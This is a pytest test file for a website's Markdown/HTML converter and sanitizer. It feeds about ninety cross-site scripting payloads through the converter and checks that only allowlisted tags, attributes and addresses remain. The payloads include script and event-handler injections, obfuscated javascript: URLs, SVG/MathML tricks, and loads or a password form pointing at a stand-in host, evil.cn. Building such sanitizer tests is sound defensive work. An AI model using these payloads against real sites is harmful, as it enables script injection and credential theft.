import re
from typing import Any

import html5lib
import pytest

from cedu_site.markup.convert import convert
from cedu_site.markup.references import resolve
from cedu_site.markup.sanitize import sanitize

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror = "alert(1)" alt="a">',
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \t javascript:alert(1)'>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#xE000;javascript:alert(1)">x</a>',
    '<a href="java&#xF8FF;script:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="&nbsp;javascript:alert(1)">x</a>',
    '<a href="\u2028//evil.cn">x</a>',
    '<a href="&#xE000;//evil.cn">x</a>',
    '<a href="/&#xE000;/evil.cn">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript://%0aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](a.png)',
    "![x](a.png\"onerror=\"alert(1) 't')",
    "![x](a.png '\" onerror=alert(1) x=\"')",
    "[x](a.md '\" onmouseover=alert(1) x=\"')",
    '[x](a.md"onmouseover="alert(1))',
    "![x](a.mp4\" onplay=\"alert(1) 't')",
    '![x" autoplay onplay="alert(1)](a.mp4)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<style>@import '//evil.cn';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.cn>",
    "<meta http-equiv=refresh content='0;url=//evil.cn'>",
    "<base href=//evil.cn/>",
    "<iframe src=//evil.cn></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.cn></object><embed src=//evil.cn>",
    "<form action=//evil.cn><input name=password><button>go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option>x</select>",
    "<div hx-get=//evil.cn hx-trigger=load data-hx-get=/x data-x=1>x</div>",
    "<p id=main>x</p><a name=desk>y</a><img name=body id=cookie src=x>",
    "<p id='h-用料'>x</p>\n\n## 用料",
    "<p class='masthead hidden callout-title'>x</p>",
    "<p role=alert aria-live=assertive tabindex=9 contenteditable>x</p>",
    "<a href=a.md target=_blank rel=opener download ping=//evil.cn>x</a>",
    "<a href=//evil.cn>x</a> <a href='/\\evil.cn'>y</a> <a href='\\\\evil.cn'>z</a>",
    "<video src=a.mp4 autoplay poster=//evil.cn onloadstart=alert(1)><track src=x></video>",
    "<audio src=javascript:alert(1)></audio>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php x ?><img src=x onerror=alert(1)>",
    "<table><tr><td background=//evil.cn onclick=alert(1) colspan=99999999>x</table>",
    "<a href=x><table><tr><td><a href=javascript:alert(1)>y</a></td></tr></table></a>",
    "``` {#main .x onclick=alert(1)}\nx\n```",
    "文{: onclick=alert(1) #main}",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: 注',
    '!!! 注意 "<img src=x onerror=alert(1)>"\n    x',
    '## <img src=x onerror=alert(1)>"><script>x</script>',
    "# <script>alert(1)</script>标题",
    "https://a.cn/'onmouseover='alert(1)",
    '<https://a.cn/"onmouseover="alert(1)>',
    "\x02wzxhzdk:0\x03<b>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<plaintext><xmp><script>alert(1)</script>",
    "<portal src=//evil.cn><frameset><frame src=//evil.cn>",
]

TAGS = re.compile(
    "a|abbr|aside|audio|b|blockquote|br|caption|cite|code|d[dlt]|del|details|div|em|figcaption"
    "|figure|h[2-4r]|i|img|input|ins|kbd|li|mark|[ou]l|p|pre|q|r[pt]|ruby|s|section|small|span"
    "|strong|su[bp]|summary|table|tbody|t[dhr]|tfoot|thead|time|u|video"
)
ATTRIBUTES = {
    "a": {"href", "title", "rel", "class", "aria-label"},
    "abbr": {"title"},
    "aside": {"class"},
    "audio": {"src", "controls", "preload", "aria-label"},
    "details": {"open"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "h2": {"id"},
    "h3": {"id"},
    "h4": {"id"},
    "img": {"src", "alt", "title"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "li": {"id", "class", "value"},
    "ol": {"start", "class"},
    "p": {"class"},
    "section": {"class"},
    "span": {"class"},
    "sup": {"id"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan"},
    "time": {"datetime"},
    "ul": {"class"},
    "video": {"src", "controls", "preload", "aria-label"},
}
CLASSES = re.compile(
    "callout(-warn|-disputed|-note|-title)?|footnote(-ref|-backref)?|task-list(-item)?"
    "|ingredients|steps|recipe|table-scroll|video-card|missing"
)
SAFE_ADDRESS = re.compile(
    r"(?:https?://|mailto:|tel:|#|/(?![/\\]))|(?![a-z][a-z0-9+.-]*:|[/\\]{2})"
)


def check(html: str) -> None:
    ids: list[str] = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert TAGS.fullmatch(element.tag), html
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()), html
        assert all(map(CLASSES.fullmatch, element.get("class", "").split())), html
        for name in ("href", "src"):
            address = re.sub(r"[\s\x00-\x20\ue000-\uf8ff]", "", element.get(name, "").lower())
            assert SAFE_ADDRESS.match(address), html
        if element.tag == "input":
            assert element.get("type") == "checkbox" and "disabled" in element.attrib, html
        ids += [element.get("id")] if element.get("id") else []
    assert len(ids) == len(set(ids)), html
    assert all(re.match("(?:h|fn|fnref)-", name) for name in ids), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_the_allowed_gets_through(attack: str) -> None:
    page: dict[str, Any] = convert(attack)
    check(page["html"])
    check(convert(f"- 甲\n    {attack}\n\n!!! 注意\n    {attack}\n\n前 {attack} 后")["html"])
    check(resolve(page["html"], lambda target: None, lambda picture: None))
    check(resolve(page["html"], lambda target: "/x", lambda picture: None))


def test_what_is_good_gets_through() -> None:
    source = "<ruby>攀<rp>(</rp><rt>pān</rt><rp>)</rp></ruby> H<sub>2</sub>O <kbd>Ctrl</kbd>"
    assert convert(source)["html"] == f"<p>{source}</p>"


def test_control_and_private_characters_vanish() -> None:
    page = convert("甲\x00\x07乙\ue000丙&#xE001;丁&#8;\ud800\x85。\t好")
    assert page["html"] == "<p>甲乙丙丁。 好</p>"
    assert page["text"] == "甲乙丙丁。 好"


def test_no_attribute_is_allowed_everywhere() -> None:
    clean = sanitize('<b title="x" lang="zh">甲</b><p dir="rtl" title="x">乙</p>')
    assert clean == "<b>甲</b><p>乙</p>"
